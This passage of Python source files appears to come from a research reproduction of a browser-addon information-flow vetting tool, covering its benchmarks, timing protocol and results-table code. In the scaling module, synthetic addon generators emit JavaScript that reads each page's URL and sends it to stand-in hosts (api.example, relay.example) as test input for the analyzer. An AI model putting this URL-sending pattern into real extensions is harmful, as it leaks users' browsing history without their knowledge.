    workers: int | None = None,
    output: str | Path | None = "BENCH_corpus.json",
    use_cache: bool = False,
    timeout: float | None = None,
    examples_dir: str | Path | None = EXAMPLES_DIR,
    versions_dir: str | Path | None = VERSIONS_DIR,
    extensions_dir: str | Path | None = EXTENSIONS_DIR,
    corpus=None,
) -> dict:
    """Benchmark the corpus; returns (and optionally writes) the report.

    Beyond the timings, the report records each addon's robustness
    outcome (typed failure kind, degraded flag and degradation kinds)
    and a corpus-level per-kind breakdown, so the perf trajectory in
    ``BENCH_corpus.json`` also tracks robustness regressions.

    Since v3 the report also carries a ``prefilter`` section: the
    examples corpus (``examples/addons``) vetted with the relevance
    prefilter on and off — hit count/rate, both wall clocks, and a
    bit-identical-signatures check. Skipped (``None``) when the
    examples directory is absent or empty.

    Since v4 it also carries an ``incremental`` section — the versioned
    update pairs (``examples/addons/versions``) vetted with the
    differential fast lane on and off: certificate hit rate, both wall
    clocks, the diff-verdict breakdown, and the fast-lane soundness
    check (served signatures bit-identical to full re-analysis) — and
    each per-addon entry records ``samples_kept``, how many timing
    samples actually survived the warm-up discard.

    Since v5 the default protocol is ``runs=3`` (discard the warm-up,
    median of 2 kept samples — the cheapest protocol whose medians are
    not single samples) and the incremental section counts fast-lane
    certifications attempted vs. skipped by the cost gate
    (``repro.batch.FAST_LANE_MIN_SOURCE_CHARS``).

    Since v6 the report carries a ``webext`` section: the multi-file
    extension mini-corpus (``examples/extensions``) vetted under the
    same timing protocol — per-extension phase medians, cross-component
    shape (components, dispatched channels, sender guards), and the
    bundle-level prefilter hit rate with its bit-identical-signatures
    soundness check. Skipped (``None``) when the extensions directory
    is absent or holds no manifests.

    Since v7 hit rates are *null* (``None``) with zero counts when a
    section's corpus directory exists but is empty or fully filtered —
    never a ZeroDivisionError — and the report can carry a ``fleet``
    section written by ``addon-sig fleet`` (:mod:`repro.corpusgen
    .fleet`): store-scale throughput, cache/prefilter/incremental hit
    rates, peak RSS, and the zero-must-hold verdict-mismatch count over
    a generated corpus. ``run_bench`` preserves an existing ``fleet``
    section in ``output`` when rewriting the other sections.

    Since v8 the report carries a ``preanalysis`` section: the examples
    corpus vetted with the whole-program pre-analysis on and off —
    computed-site resolution rate, pruned-node fraction, call-graph
    edge count, the prefilter hit rate in each arm (the resolver's
    contribution is the difference), wall delta, and the bit-identical
    -signatures soundness check — and the ``fleet`` prefilter section
    gains the matching ``hits_without_resolution`` control and
    ``resolution_gain``.

    ``corpus`` restricts the sweep to the given addon specs (default:
    the full benchmark corpus)."""
    start = time.perf_counter()
    outcomes = vet_corpus(corpus if corpus is not None else CORPUS,
                          runs=runs, k=k, workers=workers,
                          use_cache=use_cache, timeout=timeout)
    wall_s = time.perf_counter() - start

    addons = []
    totals = {"p1_s": 0.0, "p2_s": 0.0, "p3_s": 0.0, "total_s": 0.0}
    ok_count = 0
    for outcome in outcomes:
        entry: dict = {
            "name": outcome.name,
            "ok": outcome.ok,
            "cached": outcome.cached,
            "degraded": outcome.degraded,
            "prefiltered": outcome.prefiltered,
        }
        if outcome.degradations:
            entry["degradations"] = list(outcome.degradations)
        if outcome.ok and outcome.times is not None:
            ok_count += 1
            entry.update(
                verdict=outcome.verdict,
                ast_nodes=outcome.ast_nodes,
                p1_s=outcome.times["p1"],
                p2_s=outcome.times["p2"],
                p3_s=outcome.times["p3"],
                total_s=outcome.total_time,
                samples_kept=outcome.timing_samples,
                counters=dict(outcome.counters),
            )
            totals["p1_s"] += outcome.times["p1"]
            totals["p2_s"] += outcome.times["p2"]
            totals["p3_s"] += outcome.times["p3"]
            totals["total_s"] += outcome.total_time
        else:
            entry["error"] = outcome.error
            entry["failure"] = outcome.failure
        addons.append(entry)

    report = {
        "schema": SCHEMA,
        "protocol": {
            "runs": runs,
            "discard_first": runs > 1,
            "statistic": "median",
            "k": k,
            "workers": workers,
            "timeout_s": timeout,
        },
        "addons": addons,
        "corpus": {
            "count": len(addons),
            "ok": ok_count,
            # Sum of per-addon median pipeline times (sequential cost)...
            **{key: round(value, 6) for key, value in totals.items()},
            # ...versus the batch engine's actual end-to-end wall clock.
            "wall_s": round(wall_s, 6),
        },
        # The per-kind failure/degradation breakdown: the robustness
        # trajectory tracked alongside the perf trajectory.
        "robustness": summarize(outcomes),
        # The relevance prefilter measured on the examples corpus.
        "prefilter": _bench_prefilter(examples_dir),
        # The whole-program pre-analysis measured on the same corpus.
        "preanalysis": _bench_preanalysis(examples_dir),
        # The incremental fast lane measured on the versioned pairs.
        "incremental": _bench_incremental(versions_dir),
        # The multi-file WebExtensions pipeline on its mini-corpus.
        "webext": _bench_webext(extensions_dir, runs=runs),
    }
    if output is not None:
        import json

        from repro.store import atomic_write_json

        # A fleet section (written by ``addon-sig fleet``) rides along:
        # rewriting the bench sections must not drop it.
        path = Path(output)
        if path.exists():
            try:
                previous = json.loads(path.read_text(encoding="utf-8"))
            except (OSError, ValueError):
                previous = {}
            if isinstance(previous, dict) and "fleet" in previous:
                report["fleet"] = previous["fleet"]
        atomic_write_json(path, report, fsync=False)
    return report


def render_bench(report: dict) -> str:
    lines = [
        f"corpus bench ({report['protocol']['runs']} runs/addon, median after warm-up discard)",
        "",
    ]
    for addon in report["addons"]:
        if addon["ok"]:
            cached = " [cached]" if addon["cached"] else ""
            degraded = ""
            if addon.get("degraded"):
                kinds = sorted({d["kind"] for d in addon.get("degradations", [])})
                degraded = f" [degraded: {','.join(kinds)}]"
            lines.append(
                f"  {addon['name']:<22} {addon['verdict']:<5}"
                f" P1 {addon['p1_s']:.3f}s  P2 {addon['p2_s']:.3f}s"
                f"  P3 {addon['p3_s']:.3f}s  total {addon['total_s']:.3f}s"
                f"{cached}{degraded}"
            )
        else:
            kind = addon.get("failure") or "?"
            lines.append(
                f"  {addon['name']:<22} ERROR [{kind}] {addon['error']}"
            )
    corpus = report["corpus"]
    lines.append("")
    lines.append(
        f"  corpus: {corpus['ok']}/{corpus['count']} ok,"
        f" summed pipeline {corpus['total_s']:.3f}s,"
        f" batch wall {corpus['wall_s']:.3f}s"
    )
    def rate(value: float | None) -> str:
        return "n/a" if value is None else f"{value:.0%}"

    prefilter = report.get("prefilter")
    if prefilter:
        lines.append(
            f"  prefilter ({prefilter['corpus']}):"
            f" {prefilter['hits']}/{prefilter['addons']} addons skipped"
            f" (hit rate {rate(prefilter['hit_rate'])}),"
            f" wall {prefilter['wall_on_s']:.3f}s on"
            f" vs {prefilter['wall_off_s']:.3f}s off"
        )
    preanalysis = report.get("preanalysis")
    if preanalysis:
        lines.append(
            f"  preanalysis ({preanalysis['corpus']}):"
            f" {preanalysis['resolved_sites']} computed site(s) resolved"
            f" (rate {rate(preanalysis['resolution_rate'])}),"
            f" {preanalysis['pruned_nodes']} node(s) pruned,"
            f" prefilter {rate(preanalysis['hit_rate_without_preanalysis'])}"
            f" -> {rate(preanalysis['hit_rate_with_preanalysis'])}"
        )
    incremental = report.get("incremental")
    if incremental:
        lines.append(
            f"  incremental ({incremental['corpus']}):"
            f" {incremental['hits']}/{incremental['pairs']} updates fast-laned"
            f" (hit rate {rate(incremental['hit_rate'])}),"
            f" wall {incremental['wall_incremental_s']:.3f}s on"
            f" vs {incremental['wall_full_s']:.3f}s off"
        )
    webext = report.get("webext")
    if webext:
        total = sum(e["total_s"] for e in webext["extensions"])
        channels = sum(e["channels"] for e in webext["extensions"])
        lines.append(
            f"  webext ({webext['corpus']}):"
            f" {webext['count']} extensions in {total:.3f}s,"
            f" {channels} channels dispatched,"
            f" prefilter hit rate {rate(webext['prefilter_hit_rate'])}"
        )
    fleet = report.get("fleet")
    if fleet:
        throughput = fleet.get("throughput", {})
        lines.append(
            f"  fleet: {fleet['count']} generated addons,"
            f" {throughput.get('addons_per_s') or 0:.1f} addons/s,"
            f" verdict mismatches {fleet['verdict_mismatches']}"
        )
    robustness = report.get("robustness", {})
    if robustness.get("failed") or robustness.get("degraded"):
        failures = ", ".join(
            f"{kind}={count}" for kind, count in robustness["failures"].items()
        ) or "none"
        degraded = ", ".join(
            f"{kind}={count}"
            for kind, count in robustness["degradation_kinds"].items()
        ) or "none"
        lines.append(
            f"  robustness: failures [{failures}], degraded [{degraded}]"
        )
    return "\n".join(lines)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--k", type=int, default=1)
    parser.add_argument("--workers", type=int, default=None)
    parser.add_argument("--output", default="BENCH_corpus.json")
    parser.add_argument("--cache", action="store_true")
    parser.add_argument("--timeout", type=float, default=None)
    arguments = parser.parse_args()
    report = run_bench(
        runs=arguments.runs, k=arguments.k, workers=arguments.workers,
        output=arguments.output, use_cache=arguments.cache,
        timeout=arguments.timeout,
    )
    print(render_bench(report))
    print(f"\nwritten to {arguments.output}")


if __name__ == "__main__":
    main()
