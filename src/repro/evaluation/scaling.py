"""``addon-sig scaling``: the synthetic scaling benchmark.

The paper's practicality claim is per-addon ("analysis time is
reasonable" up to ~4k AST nodes); this harness probes *how* the
pipeline scales past that, sweeping synthetic addons from a handful of
nodes to 10k+ and writing a machine-readable ``BENCH_scaling.json``:
per size, the AST node count, best-of-``runs`` P1/P2/P3 times (warm-up
discarded), and the interpreter's hot-path counters (fixpoint steps,
states created, shared copies, WTO components, ...).

Two addon shapes, chosen to stress different interpreter paths:

- ``flat``: N independent event handlers (URL check + network send) —
  the dominant corpus shape; stresses dispatch and state width. The
  largest default size is 128 handlers, ~12k AST nodes.
- ``chain``: N chained callback stages, each with a nested loop,
  terminating in a network send — stresses the WTO scheduler (deep
  call chains, loop heads) and join-heavy propagation.

The report also records per-shape ``doubling_ratios`` (p1 of each size
over p1 of the previous, sizes doubling; quadratic would double into
~4), the end-to-end ``loglog_slope`` of p1 vs AST nodes, and a
``subquadratic`` verdict: slope < 1.8, i.e. the curve is visibly below
quadratic (slope 2) with margin for timing noise.

``check_regression`` gates a fresh report against a checked-in
baseline: it fails when P1 at the largest size regressed more than
``tolerance`` (default 20%). Because CI machines differ in raw speed
from whatever produced the baseline, the gate first calibrates a
machine-speed factor from the *smaller* sizes (median of current/
baseline P1 ratios) and compares the largest size against the baseline
scaled by that factor — so it detects scaling regressions (the top of
the curve bending up) rather than uniform machine slowness, which the
corpus bench already tracks.

Run: ``addon-sig scaling [--runs N] [--output FILE] [--baseline FILE]``.
"""

from __future__ import annotations

import argparse
import gc
import json
import math
import statistics
import sys
from pathlib import Path

SCHEMA = "addon-sig/bench-scaling/v1"

#: Counters worth tracking per size (the interpreter's hot paths).
TRACKED_COUNTERS = (
    "fixpoint_steps",
    "analysis_nodes",
    "states_created",
    "state_joins",
    "shared_copies",
    "wto_components",
    "widening_points",
    "closure_cache_hits",
)

#: Default sweep per shape: doubling sizes, largest flat ≈ 12k AST nodes.
DEFAULT_SIZES = {
    "flat": (1, 2, 4, 8, 16, 32, 64, 128),
    "chain": (2, 4, 8, 16, 32, 64, 128),
}


def synthesize_flat(handlers: int) -> str:
    """A realistic addon with ``handlers`` independent features.

    Each feature is the dominant corpus shape: an event handler reading
    the page URL, guarding on a marker, and sending it to the network
    with a response callback that writes the DOM."""
    chunks = [
        'var BASE = "https://api.example/feature";',
    ]
    for index in range(handlers):
        chunks.append(
            f"""
function feature{index}(e) {{
    var url = content.location.href;
    var marker = url.indexOf("site{index}");
    if (marker == -1) {{
        return;
    }}
    var req = new XMLHttpRequest();
    req.open("GET", BASE + "{index}?u=" + encodeURIComponent(url), true);
    req.onreadystatechange = function () {{
        if (req.readyState == 4 && req.status == 200) {{
            var label = document.getElementById("label{index}");
            if (label) {{
                label.textContent = req.responseText;
            }}
        }}
    }};
    req.send(null);
}}
window.addEventListener("load", feature{index}, false);
"""
        )
    return "\n".join(chunks)


def synthesize_chain(stages: int) -> str:
    """An addon whose page-load handler threads the URL through
    ``stages`` chained callback stages, each accumulating through a
    nested loop, until the last stage sends the result to the network.

    Deep call chains plus per-stage loop heads make this the adversarial
    shape for the fixpoint scheduler: naive worklist orders re-propagate
    every stage per loop iteration, a WTO order stabilizes each loop
    before moving on."""
    chunks = [
        'var CHAIN_BASE = "https://relay.example/hop";',
        "var hops = 0;",
    ]
    last = stages - 1
    for index in range(stages - 1, -1, -1):
        if index == last:
            body = f"""
function stage{index}(data{index}) {{
    var req = new XMLHttpRequest();
    req.open("GET", CHAIN_BASE + "/{index}?d=" +
             encodeURIComponent(data{index}), true);
    req.onreadystatechange = function () {{
        if (req.readyState == 4 && req.status == 200) {{
            hops = hops + 1;
        }}
    }};
    req.send(null);
}}"""
        else:
            body = f"""
function stage{index}(data{index}) {{
    var out{index} = data{index};
    for (var i{index} = 0; i{index} < 3; i{index} = i{index} + 1) {{
        var row{index} = "";
        for (var j{index} = 0; j{index} < 3; j{index} = j{index} + 1) {{
            row{index} = row{index} + "#{index}";
        }}
        out{index} = out{index} + row{index};
    }}
    stage{index + 1}(out{index});
}}"""
        chunks.append(body)
    chunks.append(
        """
function onPageLoad(e) {
    stage0(content.location.href);
}
window.addEventListener("load", onPageLoad, false);"""
    )
    return "\n".join(chunks)


SHAPES = {
    "flat": synthesize_flat,
    "chain": synthesize_chain,
}


def expected_flows(shape: str, size: int) -> int:
    """Every synthetic addon's flow count is known by construction."""
    return size if shape == "flat" else 1


def _measure(source: str, runs: int, k: int) -> dict:
    """Timing protocol on one source: ``runs`` pipelines, discard the
    warm-up when there is one to spare, per-phase *minimum* of the rest.
    The corpus bench reports medians (expected cost per addon); a
    scaling curve instead wants the noise-floor estimator — best-of is
    stable on shared, loaded CI runners where a single descheduling
    blip would bend the curve and trip the regression gate. Counters
    come from the last run (the pipeline is deterministic)."""
    from repro.api import vet

    samples = []
    report = None
    # Collect now and disable the collector while timing: a gen-2 pass
    # triggers at a deterministic allocation count and would otherwise
    # land its pause on the same sweep entry every run.
    gc.collect()
    was_enabled = gc.isenabled()
    gc.disable()
    try:
        for _ in range(max(1, runs)):
            report = vet(source, k=k)
            assert report.phase_times is not None
            samples.append(report.phase_times)
    finally:
        if was_enabled:
            gc.enable()
    kept = samples[1:] if len(samples) > 1 else samples
    return {
        "p1_s": round(min(s.p1 for s in kept), 6),
        "p2_s": round(min(s.p2 for s in kept), 6),
        "p3_s": round(min(s.p3 for s in kept), 6),
        "total_s": round(min(s.total for s in kept), 6),
        "samples_kept": len(kept),
        "flows": len(report.signature.flows),
        "counters": {
            name: report.counters[name]
            for name in TRACKED_COUNTERS
            if name in report.counters
        },
    }


def run_scaling(
    runs: int = 3,
    k: int = 1,
    sizes: dict[str, tuple[int, ...]] | None = None,
    output: str | Path | None = "BENCH_scaling.json",
) -> dict:
    """Sweep the synthetic shapes; return (and optionally write) the report."""
    from repro.js import node_count, parse

    sizes = sizes if sizes is not None else DEFAULT_SIZES
    shapes = []
    for shape, shape_sizes in sizes.items():
        synthesize = SHAPES[shape]
        entries = []
        for size in shape_sizes:
            source = synthesize(size)
            entry = {
                "size": size,
                "ast_nodes": node_count(parse(source)),
            }
            entry.update(_measure(source, runs=runs, k=k))
            if entry["flows"] != expected_flows(shape, size):
                raise AssertionError(
                    f"{shape}@{size}: expected "
                    f"{expected_flows(shape, size)} flows, "
                    f"got {entry['flows']}"
                )
            entries.append(entry)
        ratios = [
            round(after["p1_s"] / before["p1_s"], 3)
            for before, after in zip(entries, entries[1:])
            if before["p1_s"] > 0
        ]
        shapes.append({
            "shape": shape,
            "entries": entries,
            # p1 growth per size doubling; quadratic would double into ~4.
            "doubling_ratios": ratios,
            "loglog_slope": _loglog_slope(entries),
            "subquadratic": _loglog_slope(entries) < 1.8,
        })

    report = {
        "schema": SCHEMA,
        "protocol": {
            "runs": runs,
            "discard_first": runs > 1,
            "statistic": "min",
            "k": k,
        },
        "shapes": shapes,
    }
    if output is not None:
        from repro.store import atomic_write_json

        atomic_write_json(Path(output), report, fsync=False)
    return report


def _loglog_slope(entries: list[dict]) -> float:
    """End-to-end slope of the log(p1) vs log(ast_nodes) curve.

    A quadratic pipeline has slope 2, a linear one slope 1. The slope
    is measured from the first entry whose p1 clears the timer-noise
    floor (10ms) to the largest — endpoints only, so a noisy middle
    entry cannot bend the verdict the way a per-step doubling ratio
    would."""
    floored = [e for e in entries if e["p1_s"] >= 0.01]
    if len(floored) < 2:
        return 0.0
    first, last = floored[0], floored[-1]
    return round(
        math.log(last["p1_s"] / first["p1_s"])
        / math.log(last["ast_nodes"] / first["ast_nodes"]),
        3,
    )


def _largest_common(
    current: dict, baseline: dict
) -> tuple[list[tuple[dict, dict]], int]:
    by_size_current = {e["size"]: e for e in current["entries"]}
    by_size_baseline = {e["size"]: e for e in baseline["entries"]}
    common = sorted(set(by_size_current) & set(by_size_baseline))
    if not common:
        raise ValueError(
            f"no common sizes for shape {current['shape']!r}"
        )
    return (
        [(by_size_current[s], by_size_baseline[s]) for s in common],
        common[-1],
    )


def check_regression(
    report: dict, baseline: dict, tolerance: float = 0.20
) -> list[str]:
    """Compare a fresh report against the checked-in baseline.

    Returns a list of human-readable failures (empty = gate passes).
    Per shape: calibrate the machine-speed factor as the median of
    current/baseline P1 ratios over all common sizes *below* the
    largest, then fail when P1 at the largest common size exceeds the
    baseline scaled by that factor by more than ``tolerance``."""
    failures = []
    baseline_shapes = {s["shape"]: s for s in baseline.get("shapes", [])}
    for shape_report in report.get("shapes", []):
        shape = shape_report["shape"]
        if shape not in baseline_shapes:
            continue
        paired, largest = _largest_common(
            shape_report, baseline_shapes[shape]
        )
        calibration = [
            cur["p1_s"] / base["p1_s"]
            for cur, base in paired[:-1]
            if base["p1_s"] > 0
        ]
        speed_factor = statistics.median(calibration) if calibration else 1.0
        cur, base = paired[-1]
        allowed = base["p1_s"] * speed_factor * (1.0 + tolerance)
        if cur["p1_s"] > allowed:
            failures.append(
                f"{shape}@{largest}: p1 {cur['p1_s']:.3f}s exceeds "
                f"baseline {base['p1_s']:.3f}s x speed factor "
                f"{speed_factor:.2f} + {tolerance:.0%} tolerance "
                f"(allowed {allowed:.3f}s)"
            )
        if not shape_report.get("subquadratic", True):
            failures.append(
                f"{shape}: log-log slope "
                f"{shape_report.get('loglog_slope')} is not sub-quadratic"
            )
    return failures


def render_scaling(report: dict) -> str:
    lines = [
        f"scaling bench ({report['protocol']['runs']} runs/size, "
        "best-of after warm-up discard)",
    ]
    for shape_report in report["shapes"]:
        lines.append("")
        lines.append(
            f"  shape {shape_report['shape']} "
            f"(subquadratic: {shape_report['subquadratic']}, "
            f"log-log slope {shape_report['loglog_slope']}, "
            f"doubling ratios {shape_report['doubling_ratios']})"
        )
        for entry in shape_report["entries"]:
            counters = entry["counters"]
            lines.append(
                f"    size {entry['size']:>4}  "
                f"nodes {entry['ast_nodes']:>6}  "
                f"P1 {entry['p1_s']:8.3f}s  "
                f"steps {counters.get('fixpoint_steps', 0):>7}  "
                f"shared copies {counters.get('shared_copies', 0):>8}"
            )
    return "\n".join(lines)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--runs", type=int, default=3)
    parser.add_argument("--k", type=int, default=1)
    parser.add_argument("--output", default="BENCH_scaling.json")
    parser.add_argument(
        "--baseline", default=None,
        help="checked-in BENCH_scaling baseline to gate against "
             "(exit 1 on >tolerance p1 regression at the largest size)",
    )
    parser.add_argument(
        "--tolerance", type=float, default=0.20,
        help="allowed relative p1 regression at the largest size",
    )
    arguments = parser.parse_args(argv)
    report = run_scaling(
        runs=arguments.runs, k=arguments.k, output=arguments.output,
    )
    print(render_scaling(report))
    print(f"\nwritten to {arguments.output}")
    if arguments.baseline is not None:
        baseline = json.loads(
            Path(arguments.baseline).read_text(encoding="utf-8")
        )
        failures = check_regression(
            report, baseline, tolerance=arguments.tolerance
        )
        if failures:
            for failure in failures:
                print(f"REGRESSION: {failure}", file=sys.stderr)
            return 1
        print(f"regression gate passed (vs {arguments.baseline})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
