"""The paper's timing methodology (Section 6.2).

"To compute the timing results we run the analysis 11 times on each
benchmark, discard the first result, and report the median of the
remaining runs." Times are split into the three phases:

- P1: base analysis (parse + lower + abstract interpretation),
- P2: annotated PDG construction,
- P3: signature inference.

The per-phase timers live in :func:`repro.api.vet` (every vetting run is
timed, not just evaluation runs); this module layers the
runs/discard/median protocol on top. :class:`repro.perf.PhaseTimes` is
re-exported for backward compatibility.
"""

from __future__ import annotations

from repro.api import vet
from repro.perf import PhaseTimes, median_times

__all__ = ["PhaseTimes", "time_phases", "time_phases_once"]


def time_phases_once(source: str, k: int = 1) -> PhaseTimes:
    """Run the pipeline once, timing each phase."""
    report = vet(source, k=k)
    assert report.phase_times is not None
    return report.phase_times


def time_phases(source: str, runs: int = 11, k: int = 1) -> PhaseTimes:
    """The paper's protocol: ``runs`` runs, discard the first, report the
    per-phase median of the rest."""
    samples = [time_phases_once(source, k=k) for _ in range(runs)]
    return median_times(samples)
