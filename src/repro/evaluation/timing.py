"""The paper's timing methodology (Section 6.2).

"To compute the timing results we run the analysis 11 times on each
benchmark, discard the first result, and report the median of the
remaining runs." Times are split into the three phases:

- P1: base analysis (parse + lower + abstract interpretation),
- P2: annotated PDG construction,
- P3: signature inference.
"""

from __future__ import annotations

import statistics
import time
from dataclasses import dataclass

from repro.analysis import analyze
from repro.browser import BrowserEnvironment, mozilla_spec
from repro.ir import lower
from repro.js import parse
from repro.pdg import build_pdg
from repro.signatures import infer_signature


@dataclass
class PhaseTimes:
    """One addon's phase timings, in seconds."""

    p1: float
    p2: float
    p3: float

    @property
    def total(self) -> float:
        return self.p1 + self.p2 + self.p3


def time_phases_once(source: str, k: int = 1) -> PhaseTimes:
    """Run the pipeline once, timing each phase."""
    spec = mozilla_spec()
    start = time.perf_counter()
    program = lower(parse(source), event_loop=True)
    result = analyze(program, BrowserEnvironment(), k=k)
    after_p1 = time.perf_counter()
    pdg = build_pdg(result)
    after_p2 = time.perf_counter()
    infer_signature(result, pdg, spec)
    after_p3 = time.perf_counter()
    return PhaseTimes(
        p1=after_p1 - start,
        p2=after_p2 - after_p1,
        p3=after_p3 - after_p2,
    )


def time_phases(source: str, runs: int = 11, k: int = 1) -> PhaseTimes:
    """The paper's protocol: ``runs`` runs, discard the first, report the
    per-phase median of the rest."""
    samples = [time_phases_once(source, k=k) for _ in range(runs)]
    kept = samples[1:] if len(samples) > 1 else samples
    return PhaseTimes(
        p1=statistics.median(sample.p1 for sample in kept),
        p2=statistics.median(sample.p2 for sample in kept),
        p3=statistics.median(sample.p3 for sample in kept),
    )
