"""Table 2 reproduction: signature inference results and timings.

For each benchmark addon: the pass/fail/leak classification against the
manual signature (written from the developer summary; the fail/leak
distinction uses the corpus ground truth — see
:mod:`repro.signatures.compare`), and the P1/P2/P3 phase timings under
the paper's 11-runs-drop-first-median protocol.

Run: ``python -m repro.evaluation.table2 [--runs N]``
(the paper uses 11 runs; smaller N is handy while iterating).
"""

from __future__ import annotations

import argparse
from dataclasses import dataclass

from repro.addons import CORPUS, AddonSpec, vet_addon
from repro.evaluation.tables import render_table
from repro.evaluation.timing import PhaseTimes, time_phases


@dataclass
class Table2Row:
    spec: AddonSpec
    verdict: str
    times: PhaseTimes
    extra_entries: list[str]
    missing_entries: list[str]

    @property
    def matches_paper(self) -> bool:
        return self.verdict == self.spec.expected_verdict


def compute_row(spec: AddonSpec, runs: int = 11, k: int = 1) -> Table2Row:
    report = vet_addon(spec, k=k)
    comparison = report.comparison
    assert comparison is not None
    times = time_phases(spec.source(), runs=runs, k=k)
    return Table2Row(
        spec=spec,
        verdict=comparison.verdict.value,
        times=times,
        extra_entries=sorted(e.render() for e in comparison.extra),
        missing_entries=sorted(e.render() for e in comparison.missing),
    )


def compute_table2(runs: int = 11, k: int = 1) -> list[Table2Row]:
    return [compute_row(spec, runs=runs, k=k) for spec in CORPUS]


def render_table2(rows: list[Table2Row]) -> str:
    body = render_table(
        headers=[
            "Addon Name", "Result", "Paper", "P1 (s)", "P2 (s)", "P3 (s)",
        ],
        rows=[
            [
                row.spec.name,
                row.verdict,
                row.spec.expected_verdict,
                f"{row.times.p1:.2f}",
                f"{row.times.p2:.2f}",
                f"{row.times.p3:.2f}",
            ]
            for row in rows
        ],
        title="Table 2: addon signature inference result summary",
    )
    matched = sum(row.matches_paper for row in rows)
    footer = [f"\n{matched}/{len(rows)} verdicts match the paper's Table 2."]
    for row in rows:
        if row.extra_entries or row.missing_entries:
            footer.append(f"\n{row.spec.name} ({row.verdict}):")
            for entry in row.extra_entries:
                footer.append(f"  extra:   {entry}")
            for entry in row.missing_entries:
                footer.append(f"  missing: {entry}")
    return body + "\n" + "\n".join(footer)


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument(
        "--runs", type=int, default=11,
        help="timing runs per addon (first is discarded; paper: 11)",
    )
    parser.add_argument("--k", type=int, default=1, help="context sensitivity")
    arguments = parser.parse_args()
    print(render_table2(compute_table2(runs=arguments.runs, k=arguments.k)))


if __name__ == "__main__":
    main()
