"""Table 2 reproduction: signature inference results and timings.

For each benchmark addon: the pass/fail/leak classification against the
manual signature (written from the developer summary; the fail/leak
distinction uses the corpus ground truth — see
:mod:`repro.signatures.compare`), and the P1/P2/P3 phase timings under
the paper's 11-runs-drop-first-median protocol.

The corpus sweep goes through the batch engine
(:func:`repro.batch.vet_corpus`): addons are vetted in parallel across
worker processes, a broken addon degrades to an ``error`` row instead of
aborting the table, and ``--cache`` reuses on-disk results keyed by
(source, k, spec, version).

Alongside the paper's table, :func:`compute_diff_rows` reproduces the
differential-vetting extension on the versioned examples
(``examples/addons/versions``): each curated update pair gets a Diff
column — fast-laned or re-analyzed, the routing verdict, and the
classified signature changes.

Run: ``python -m repro.evaluation.table2 [--runs N] [--workers N]``
(the paper uses 11 runs; smaller N is handy while iterating).
"""

from __future__ import annotations

import argparse
from dataclasses import dataclass, field
from pathlib import Path

from repro.addons import CORPUS, AddonSpec
from repro.batch import VetOutcome, vet_corpus
from repro.evaluation.tables import render_table
from repro.perf import PhaseTimes


@dataclass
class Table2Row:
    spec: AddonSpec
    verdict: str
    times: PhaseTimes
    extra_entries: list[str]
    missing_entries: list[str]
    error: str | None = None
    #: Typed failure kind (repro.faults.FailureKind value) on error rows.
    failure: str | None = None
    #: True when the signature was ⊤-widened by salvage mode.
    degraded: bool = False
    degradation_kinds: list[str] = field(default_factory=list)
    #: True when the relevance prefilter skipped the interpreter.
    prefiltered: bool = False
    counters: dict[str, int] = field(default_factory=dict)

    @property
    def matches_paper(self) -> bool:
        return self.verdict == self.spec.expected_verdict

    @property
    def robustness(self) -> str:
        """The breakdown-column cell: ok / degraded(kinds) / failure."""
        if self.failure is not None:
            return f"fail({self.failure})"
        if self.degraded:
            return f"degraded({','.join(self.degradation_kinds)})"
        if self.prefiltered:
            return "prefiltered"
        return "ok"


def _row_from_outcome(spec: AddonSpec, outcome: VetOutcome) -> Table2Row:
    if not outcome.ok:
        return Table2Row(
            spec=spec,
            verdict="error",
            times=PhaseTimes(p1=0.0, p2=0.0, p3=0.0),
            extra_entries=[],
            missing_entries=[],
            error=outcome.error,
            failure=outcome.failure,
        )
    assert outcome.times is not None and outcome.verdict is not None
    return Table2Row(
        spec=spec,
        verdict=outcome.verdict,
        times=PhaseTimes(**outcome.times),
        extra_entries=list(outcome.extra_entries),
        missing_entries=list(outcome.missing_entries),
        degraded=outcome.degraded,
        degradation_kinds=outcome.degradation_kinds,
        prefiltered=outcome.prefiltered,
        counters=dict(outcome.counters),
    )


def compute_row(spec: AddonSpec, runs: int = 11, k: int = 1) -> Table2Row:
    """One addon's row (kept for targeted/debug use; the full table goes
    through :func:`compute_table2`'s batch path)."""
    [outcome] = vet_corpus([spec], runs=runs, k=k, workers=1, use_cache=False)
    return _row_from_outcome(spec, outcome)


def compute_table2(
    runs: int = 11,
    k: int = 1,
    workers: int | None = None,
    use_cache: bool = False,
    timeout: float | None = None,
    recover: bool = False,
) -> list[Table2Row]:
    outcomes = vet_corpus(
        CORPUS, runs=runs, k=k, workers=workers, use_cache=use_cache,
        timeout=timeout, recover=recover,
    )
    return [
        _row_from_outcome(spec, outcome)
        for spec, outcome in zip(CORPUS, outcomes)
    ]


def render_table2(rows: list[Table2Row]) -> str:
    body = render_table(
        headers=[
            "Addon Name", "Result", "Paper", "P1 (s)", "P2 (s)", "P3 (s)",
            "Robustness",
        ],
        rows=[
            [
                row.spec.name,
                row.verdict,
                row.spec.expected_verdict,
                f"{row.times.p1:.2f}",
                f"{row.times.p2:.2f}",
                f"{row.times.p3:.2f}",
                row.robustness,
            ]
            for row in rows
        ],
        title="Table 2: addon signature inference result summary",
    )
    matched = sum(row.matches_paper for row in rows)
    footer = [f"\n{matched}/{len(rows)} verdicts match the paper's Table 2."]
    breakdown: dict[str, int] = {}
    for row in rows:
        if row.failure is not None:
            breakdown[f"fail:{row.failure}"] = breakdown.get(f"fail:{row.failure}", 0) + 1
        for kind in row.degradation_kinds:
            breakdown[f"degraded:{kind}"] = breakdown.get(f"degraded:{kind}", 0) + 1
    if breakdown:
        rendered = ", ".join(f"{k}={v}" for k, v in sorted(breakdown.items()))
        footer.append(f"\nrobustness breakdown: {rendered}")
    for row in rows:
        if row.error:
            footer.append(f"\n{row.spec.name}: ERROR {row.error}")
        if row.extra_entries or row.missing_entries:
            footer.append(f"\n{row.spec.name} ({row.verdict}):")
            for entry in row.extra_entries:
                footer.append(f"  extra:   {entry}")
            for entry in row.missing_entries:
                footer.append(f"  missing: {entry}")
    return body + "\n" + "\n".join(footer)


@dataclass
class DiffRow:
    """One versioned update pair's differential-vetting summary."""

    name: str
    certificate: str  # "fast-lane" or the refusal reason
    verdict: str  # approve-fast / approve / re-review
    changes: str  # compact "kind=count" change breakdown


def compute_diff_rows(
    versions_dir: str | Path = "examples/addons/versions",
